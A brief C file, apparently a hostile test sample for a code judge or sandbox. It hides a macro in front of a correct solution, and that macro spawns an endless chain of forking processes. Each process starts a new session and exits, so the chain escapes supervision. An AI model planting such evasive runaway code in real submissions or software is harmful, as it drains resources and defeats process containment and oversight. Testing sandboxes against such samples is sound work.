/* A chain of processes, each of which starts the next and ends, in sessions of their own: it never
 * stands still to be seen. Its answer is right. */
#include <unistd.h>

static void run_away(void)
{
    if (fork() != 0)
        return;
    for (;;) {
        setsid();
        if (fork() != 0)
            _exit(0);
    }
}
#define BEGIN                                                                                      \
    static int started;                                                                            \
    float sum = 0;                                                                                 \
    if (!started++)                                                                                \
        run_away();
#include "plain.h"
